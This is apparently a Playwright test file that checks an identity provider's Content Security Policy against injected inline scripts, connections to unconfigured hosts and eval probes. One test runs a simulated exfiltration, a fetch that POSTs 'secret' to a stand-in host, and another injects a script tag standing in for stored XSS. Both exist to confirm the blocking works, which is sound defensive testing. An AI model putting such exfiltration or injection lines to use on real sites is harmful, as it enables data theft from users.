import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { takeCspViolations } from './harness/csp-violations.ts'
import { openTestPage, useSignet } from './harness/fixture.ts'
import { dialog } from './harness/rainbowkit.ts'
import { testWalletName } from './harness/test-wallet.ts'

// The policy the server sends stops what an attacker would try first on an identity provider's page:
// a script slipped into the HTML, and a connection carrying data to a host nobody configured.

/** Resolves with the next CSP report the page sends to the server, and the server's answer. */
function nextReport(page: Page) {
  return page
    .waitForResponse((response) => response.url().endsWith('/api/csp-report'))
    .then(async (response) => ({
      status: response.status(),
      report: JSON.parse(response.request().postData() ?? '{}')['csp-report'] as Record<string, unknown>,
    }))
}

describe('Content Security Policy', () => {
  const fixture = useSignet()

  it('blocks a script injected into the page’s HTML, and reports it to Signet', async (test) => {
    // A test-only route: the real answer (headers and policy untouched) with an inline script added,
    // as a stored-XSS flaw or a tampering proxy would add it.
    const { page } = await openTestPage(fixture, test)
    await page.route(`${fixture.signet.url}/`, async (route) => {
      const response = await route.fetch()
      const body = (await response.text()).replace(
        '</head>',
        '<script>window.injectedScriptRan = true</script></head>',
      )
      await route.fulfill({ response, body })
    })
    const reported = nextReport(page)
    await page.goto(`${fixture.signet.url}/`, { waitUntil: 'domcontentloaded' })
    await expect(page.getByRole('button', { name: 'Connect Wallet' }).waitFor()).resolves.toBeUndefined()
    expect(await page.evaluate(() => (window as { injectedScriptRan?: boolean }).injectedScriptRan)).toBe(
      undefined,
    )
    const { status, report } = await reported
    expect(status).toBe(204)
    expect(report).toMatchObject({
      'blocked-uri': 'inline',
      'effective-directive': 'script-src-elem',
      'document-uri': `${fixture.signet.url}/`,
    })
    // Chromium's console line, and the report (the harness watches both).
    const seen = takeCspViolations()
    expect(seen).toHaveLength(2)
    expect(seen).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/inline script .*'script-src 'self''/),
        expect.stringContaining(`${fixture.signet.url}/: report: script-src-elem blocked inline`),
      ]),
    )
  })

  it('blocks a connection to a host that is not configured, and reports it', async (test) => {
    const { page } = await openTestPage(fixture, test)
    await page.getByRole('button', { name: 'Connect Wallet' }).waitFor()
    const reported = nextReport(page)
    const outcome = await page.evaluate(async () => {
      const violation = new Promise<{ blockedURI: string; effectiveDirective: string }>((resolve) =>
        document.addEventListener('securitypolicyviolation', (event) => resolve(event), { once: true }),
      )
      const fetched = await fetch('https://unlisted.example/collect', {
        method: 'POST',
        body: 'secret',
      }).then(
        () => 'sent',
        (error: Error) => `failed: ${error.message}`,
      )
      const { blockedURI, effectiveDirective } = await violation
      return { fetched, blockedURI, effectiveDirective }
    })
    expect(outcome).toEqual({
      fetched: 'failed: Failed to fetch',
      blockedURI: 'https://unlisted.example/collect',
      effectiveDirective: 'connect-src',
    })
    const { status, report } = await reported
    expect(status).toBe(204)
    expect(report).toMatchObject({
      'blocked-uri': 'https://unlisted.example/collect',
      'effective-directive': 'connect-src',
    })
    const seen = takeCspViolations()
    expect(seen).toHaveLength(3)
    expect(seen).toEqual(
      expect.arrayContaining([
        expect.stringContaining(
          "Connecting to 'https://unlisted.example/collect' violates the following Content Security Policy directive: \"connect-src 'self' ",
        ),
        expect.stringContaining('Fetch API cannot load https://unlisted.example/collect.'),
        expect.stringContaining(
          `${fixture.signet.url}/: report: connect-src blocked https://unlisted.example/collect`,
        ),
      ]),
    )
  })

  it('counts a violation that reaches the console nowhere: a caught `new Function` probe, reported only', async (test) => {
    // How zod finds out whether it may compile: a same-origin script tries and swallows the error.
    // Chromium logs nothing for it; the report to report-uri is all there is, and the harness counts it.
    const { page } = await openTestPage(fixture, test, { wallet: false })
    await page.getByRole('button', { name: 'Connect Wallet' }).waitFor()
    await page.route(`${fixture.signet.url}/assets/eval-probe.js`, (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: "try { new Function('') } catch { window.evalProbeCaught = true }",
      }),
    )
    const reported = nextReport(page)
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = '/assets/eval-probe.js'
      document.head.append(script)
    })
    const { report } = await reported
    expect(report).toMatchObject({ 'effective-directive': 'script-src', 'blocked-uri': 'eval' })
    expect(await page.evaluate(() => (window as { evalProbeCaught?: boolean }).evalProbeCaught)).toBe(true)
    expect(takeCspViolations()).toEqual([
      `${fixture.signet.url}/: report: script-src blocked eval at ${fixture.signet.url}/assets/eval-probe.js:1`,
    ])
  })
})

describe('Content Security Policy on the OpenID Connect pages', () => {
  const redirectUri = 'http://127.0.0.1:9/callback'
  const fixture = useSignet({
    env: {
      SIGNET_OIDC_CLIENTS: JSON.stringify([
        {
          client_id: 'wiki',
          client_name: 'Team Wiki',
          redirect_uris: [redirectUri],
          token_endpoint_auth_method: 'none',
        },
      ]),
    },
  })

  it('sends no report while an application’s request is signed in and consented to', async (test) => {
    // zod validates the interaction's answers: in jitless mode it never probes `new Function`.
    const query = new URLSearchParams({
      client_id: 'wiki',
      response_type: 'code',
      scope: 'openid eth',
      redirect_uri: redirectUri,
      code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
      code_challenge_method: 'S256',
    })
    const { page } = await openTestPage(fixture, test, { path: `/oidc/auth?${query}` })
    const reports: string[] = []
    page.on('request', (request) => {
      if (request.url().endsWith('/api/csp-report')) reports.push(request.postData() ?? '')
    })
    await page.getByRole('heading', { name: 'Sign in to Team Wiki' }).waitFor()
    await page.getByRole('button', { name: 'Sign in with your wallet' }).click()
    await dialog(page).getByRole('button', { name: testWalletName }).click()
    await dialog(page).getByRole('button', { name: 'Sign message' }).click()
    await page.getByRole('button', { name: 'Allow' }).waitFor({ timeout: 20_000 })
    // Reports are sent at once (report-uri); give one a moment to arrive before concluding there is none.
    await page.waitForTimeout(1_000)
    expect(reports).toEqual([])
    expect(takeCspViolations()).toEqual([])
  })
})
